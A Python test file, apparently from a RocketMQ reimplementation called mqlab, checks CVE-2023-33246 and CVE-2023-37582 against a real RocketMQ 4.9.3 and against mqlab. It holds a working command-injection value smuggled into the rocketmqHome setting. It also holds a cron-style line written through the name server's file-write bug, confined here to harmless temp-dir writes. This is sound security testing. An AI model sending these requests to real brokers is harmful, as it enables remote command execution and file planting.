"""CVE-2023-33246 and CVE-2023-37582 tried on the real RocketMQ 4.9.3 broker and name server,
and on mqlab's, side by side.

Every command and file here is this test's own, in a temp dir: the "command" is ``touch`` of
a file in it, the filter-server script writes its arguments to a file beside it.

* CVE-2023-33246: UPDATE_BROKER_CONFIG ``filterServerNums=1`` and ``rocketmqHome=H``; 4.9.3's
  ``FilterServerManager#createFilterServer`` (5 s after the broker's start, then every 30 s)
  runs ``sh H/bin/startfsrv.sh -n <namesrv>`` with ``Runtime#exec``. ACL off (broker-a):
  anyone; ACL on (broker-acl): the code is admin-only, so unsigned is refused and the admin's
  request runs the script. H = ``-c $@|sh . echo touch F;`` (the CVE's form) runs ``touch F``.
  The name server's UPDATE_NAMESRV_CONFIG takes ``rocketmqHome`` too, and runs nothing.
* CVE-2023-37582: UPDATE_NAMESRV_CONFIG ``configStorePath`` / ``kvConfigPath``: 4.9.3 writes
  its whole config to the first at once, and PUT_KV_CONFIG's table to the second. The 4.9.3
  name server has no ACL: the same with the brokers' ACL on.

mqlab answers each request with the same code and remark, and nothing runs or appears
(tests/net/test_security.py guards the process and every file write on top).
One real cluster (one JVM), its ACL broker, and ``mqlab serve`` with its ACL broker; the
filter-server wait is at most one 30 s period.
"""

from __future__ import annotations

import time
from collections.abc import Iterator
from pathlib import Path

import pytest

from mqlab.acl.acl_client_rpc_hook import AclClientRPCHook
from mqlab.conformance.raw_tcp import RawTcpClient
from mqlab.conformance.scenarios.acl_accounts import ADMIN
from mqlab.conformance.sides import MqlabSide, RealSide
from mqlab.remoting.codes import RequestCode as R

pytestmark = pytest.mark.conformance

NO_ACCESS_KEY = (
    "org.apache.rocketmq.acl.common.AclException: No accessKey is configured, "
    "org.apache.rocketmq.acl.plain.PlainPermissionManager.validate(PlainPermissionManager.java:636)"
)
KV_VALUE = "* * * * * root touch /tmp/mqlab-never"


@pytest.fixture(scope="module")
def sides(java_runner) -> Iterator[dict[str, RealSide | MqlabSide]]:
    real, mq = RealSide(), MqlabSide("mqlab")
    try:
        for side in (real, mq):
            side.start()
            side.start_acl_broker()
        yield {"real": real, "mqlab": mq}
    finally:
        for side in (real, mq):
            side.stop()


def _ask(addr: str, code: int, ext=None, body: bytes | None = None, admin: bool = False):
    client = RawTcpClient()
    try:
        hook = AclClientRPCHook(ADMIN) if admin else None
        return client.start(addr, code, ext, body, rpc_hook=hook).result().command
    finally:
        client.close()


def _script_home(root: Path) -> Path:
    home = root / "home"
    (home / "bin").mkdir(parents=True)
    script = home / "bin" / "startfsrv.sh"
    script.write_text(f'#!/bin/sh\necho "$@" > {root}/ran\n')
    script.chmod(0o755)
    return home


def _config(body: bytes) -> dict[str, str]:
    return dict(line.split("=", 1) for line in body.decode().splitlines() if "=" in line)


def test_cve_2023_33246_the_filter_server_start_runs_what_the_config_says(sides, tmp_path):
    """4.9.3: SUCCESS, then the request's command runs (ACL off: anyone; ACL on: the admin,
    unsigned refused); the name server runs nothing. mqlab: the same answers, nothing runs."""
    answers: dict[str, list] = {}
    dirs: dict[str, dict[str, Path]] = {}
    for name, side in sides.items():
        d = {k: tmp_path / name / k for k in ("off", "on", "namesrv")}
        for p in d.values():
            p.mkdir(parents=True)
        dirs[name] = d
        cve_form = f"-c $@|sh . echo touch {d['off']}/pwned;"
        on_home, ns_home = _script_home(d["on"]), _script_home(d["namesrv"])
        got = [
            _ask(side.broker_addr, R.UPDATE_BROKER_CONFIG,
                 body=f"filterServerNums=1\nrocketmqHome={cve_form}\n".encode()),
            _ask(side.acl_addr, R.UPDATE_BROKER_CONFIG,
                 body=f"filterServerNums=1\nrocketmqHome={on_home}\n".encode()),
            _ask(side.acl_addr, R.UPDATE_BROKER_CONFIG, admin=True,
                 body=f"filterServerNums=1\nrocketmqHome={on_home}\n".encode()),
            _ask(side.namesrv_addr, R.UPDATE_NAMESRV_CONFIG,
                 body=f"rocketmqHome={ns_home}\n".encode()),
        ]  # fmt: skip
        answers[name] = [(c.code, c.remark) for c in got]
        shown = _config(_ask(side.broker_addr, R.GET_BROKER_CONFIG).body)
        assert (shown["filterServerNums"], shown["rocketmqHome"]) == ("1", cve_form), name
    assert answers["real"] == [(0, None), (1, NO_ACCESS_KEY), (0, None), (0, None)]
    assert answers["mqlab"] == answers["real"]
    real = dirs["real"]
    deadline = time.monotonic() + 45  # createFilterServer: every 30 s
    while not ((real["off"] / "pwned").exists() and (real["on"] / "ran").exists()):
        assert time.monotonic() < deadline, "4.9.3 ran no filter server within 45 s"
        time.sleep(0.5)
    namesrv_addr = sides["real"].namesrv_addr
    assert (real["on"] / "ran").read_text().split() == ["-n", namesrv_addr]
    for side in sides.values():  # stop 4.9.3 starting more
        _ask(side.broker_addr, R.UPDATE_BROKER_CONFIG, body=b"filterServerNums=0\n")
        _ask(side.acl_addr, R.UPDATE_BROKER_CONFIG, body=b"filterServerNums=0\n", admin=True)
    assert not (real["namesrv"] / "ran").exists()  # the name server starts no filter server
    mq = dirs["mqlab"]
    assert [sorted(p.name for p in mq[k].iterdir()) for k in ("off", "on", "namesrv")] == [
        [], ["home"], ["home"]
    ]  # fmt: skip


def test_cve_2023_37582_the_name_server_writes_where_its_config_says(sides, tmp_path):
    """4.9.3: SUCCESS; the config file is written at once to the new configStorePath, and
    PUT_KV_CONFIG's table to the new kvConfigPath. mqlab: the same answers, no file."""
    answers = {}
    for name, side in sides.items():
        out = tmp_path / name
        out.mkdir()
        ns = side.namesrv_addr
        before = _config(_ask(ns, R.GET_NAMESRV_CONFIG).body)
        got = [
            _ask(ns, R.UPDATE_NAMESRV_CONFIG, body=(
                f"configStorePath={out}/namesrv.properties\n"
                f"kvConfigPath={out}/kvConfig.json\n").encode()),
            _ask(ns, R.PUT_KV_CONFIG, {"namespace": "mqlab-cve", "key": "cron",
                                       "value": KV_VALUE}),
        ]  # fmt: skip
        answers[name] = [(c.code, c.remark) for c in got]
        shown = _config(_ask(ns, R.GET_NAMESRV_CONFIG).body)
        assert shown["kvConfigPath"] == f"{out}/kvConfig.json", name
        written = sorted(p.name for p in out.iterdir())
        if name == "real":
            assert written == ["kvConfig.json", "namesrv.properties"]
            assert f"kvConfigPath={out}/kvConfig.json" in (out / "namesrv.properties").read_text()
            assert KV_VALUE in (out / "kvConfig.json").read_text()
        else:
            assert written == []
        # back where they were (4.9.3 writes its config there once more)
        _ask(ns, R.UPDATE_NAMESRV_CONFIG, body=(
            f"configStorePath={before['configStorePath']}\n"
            f"kvConfigPath={before['kvConfigPath']}\n").encode())  # fmt: skip
    assert answers["real"] == [(0, None), (0, None)]
    assert answers["mqlab"] == answers["real"]


def test_the_broker_writes_its_config_files_under_a_store_path_a_request_sets(sides, tmp_path):
    """The broker's own CVE-2023-37582: UPDATE_BROKER_CONFIG ``storePathRootDir=D``, then
    UPDATE_AND_CREATE_TOPIC. 4.9.3's ``ConfigManager#persist`` asks ``configFilePath()`` each
    time (``<storePathRootDir>/config/topics.json``): the topic table, names chosen by the
    request, is written under D. mqlab: the same answers, its files stay in its store."""
    create = {"topic": "mqlab_cve_topic", "defaultTopic": "TBW102", "readQueueNums": "1",
              "writeQueueNums": "1", "perm": "6", "topicFilterType": "SINGLE_TAG",
              "topicSysFlag": "0", "order": "false"}  # fmt: skip
    answers = {}
    for name, side in sides.items():
        out = tmp_path / name
        out.mkdir()
        before = _config(_ask(side.broker_addr, R.GET_BROKER_CONFIG).body)["storePathRootDir"]
        got = [
            _ask(
                side.broker_addr, R.UPDATE_BROKER_CONFIG, body=f"storePathRootDir={out}\n".encode()
            ),
            _ask(side.broker_addr, R.UPDATE_AND_CREATE_TOPIC, create),
        ]
        answers[name] = [(c.code, c.remark) for c in got]
        written = sorted(str(p.relative_to(out)) for p in out.rglob("*"))
        _ask(side.broker_addr, R.UPDATE_BROKER_CONFIG, body=f"storePathRootDir={before}\n".encode())
        if name == "real":
            # and, at their 5 s / 10 s ticks, consumerOffset.json, consumerFilter.json, ...
            assert "config/topics.json" in written
            assert all(w == "config" or w.startswith("config/") for w in written)
            assert "mqlab_cve_topic" in (out / "config" / "topics.json").read_text()
        else:
            assert written == []
    assert answers["real"] == [(0, None), (0, "not set any response code")]
    assert answers["mqlab"] == answers["real"]


def test_with_acl_on_the_store_path_is_the_admins_to_move(sides, tmp_path):
    """broker-acl: UPDATE_BROKER_CONFIG (25) and UPDATE_AND_CREATE_TOPIC (17) are admin-only:
    unsigned refused; the admin's pair writes topics.json under the new path on 4.9.3, and
    nothing outside the store on mqlab."""
    create = {"topic": "mqlab_cve_acl", "defaultTopic": "TBW102", "readQueueNums": "1",
              "writeQueueNums": "1", "perm": "6", "topicFilterType": "SINGLE_TAG",
              "topicSysFlag": "0", "order": "false"}  # fmt: skip
    answers = {}
    for name, side in sides.items():
        out = tmp_path / name
        out.mkdir()
        addr = side.acl_addr
        before = _config(_ask(addr, R.GET_BROKER_CONFIG, admin=True).body)["storePathRootDir"]
        move = f"storePathRootDir={out}\n".encode()
        got = [
            _ask(addr, R.UPDATE_BROKER_CONFIG, body=move),
            _ask(addr, R.UPDATE_BROKER_CONFIG, body=move, admin=True),
            _ask(addr, R.UPDATE_AND_CREATE_TOPIC, create, admin=True),
        ]
        answers[name] = [(c.code, c.remark) for c in got]
        written = sorted(str(p.relative_to(out)) for p in out.rglob("*"))
        _ask(addr, R.UPDATE_BROKER_CONFIG, body=f"storePathRootDir={before}\n".encode(),
             admin=True)  # fmt: skip
        if name == "real":
            assert "config/topics.json" in written
            assert "mqlab_cve_acl" in (out / "config" / "topics.json").read_text()
        else:
            assert written == []
    assert answers["real"] == [(1, NO_ACCESS_KEY), (0, None), (0, "not set any response code")]
    assert answers["mqlab"] == answers["real"]
